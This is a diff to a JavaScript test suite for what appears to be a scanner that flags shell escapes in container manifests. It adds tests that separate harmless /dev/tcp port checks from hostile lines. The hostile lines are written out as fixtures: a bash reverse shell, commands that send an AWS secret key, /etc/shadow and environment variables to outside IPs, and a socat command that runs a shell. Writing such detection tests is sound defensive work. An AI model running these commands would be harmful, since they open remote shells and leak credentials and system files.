@@ -179,6 +179,34 @@ describe('shell-escape reporting', () => {
     );
   });
 
+  const PORT_CHECKS = [
+    'until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done',
+    'timeout 1 bash -c "</dev/tcp/redis/6379"',
+    ': < /dev/tcp/api/443 && echo up',
+  ];
+  for (const script of PORT_CHECKS) {
+    test(`a port check is a warning, not an error: ${script}`, () => {
+      const found = escapes(script);
+      assert.deepEqual(found.map((f) => f.severity), ['warning']);
+      assert.match(found[0].message, /port check/);
+    });
+  }
+
+  const NOT_PORT_CHECKS = [
+    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+    'exec 3<>/dev/tcp/10.0.0.1/80',
+    'echo "$AWS_SECRET_ACCESS_KEY" > /dev/tcp/198.51.100.7/80',
+    'cat /etc/shadow > /dev/tcp/198.51.100.7/80',
+    'env | nc 198.51.100.7 80; printenv > /dev/udp/198.51.100.7/53',
+  ];
+  for (const script of NOT_PORT_CHECKS) {
+    test(`not a port check, an error: ${script}`, () => {
+      const found = escapes(script).filter((f) => /\/dev\/tcp/.test(f.message));
+      assert.ok(found.length > 0);
+      assert.ok(found.every((f) => f.severity === 'error'), JSON.stringify(found.map((f) => f.message)));
+    });
+  }
+
   test('seed profile keeps shell-escape (it is clause 2)', async () => {
     const { analyseManifest, DEFAULT_CONFIG } = await import('../src/index.js');
     const text = cronJob(['containers:', '- name: x', '  image: alpine', '  command: [socat, "tcp:h:1", "exec:sh"]'].join('\n'));
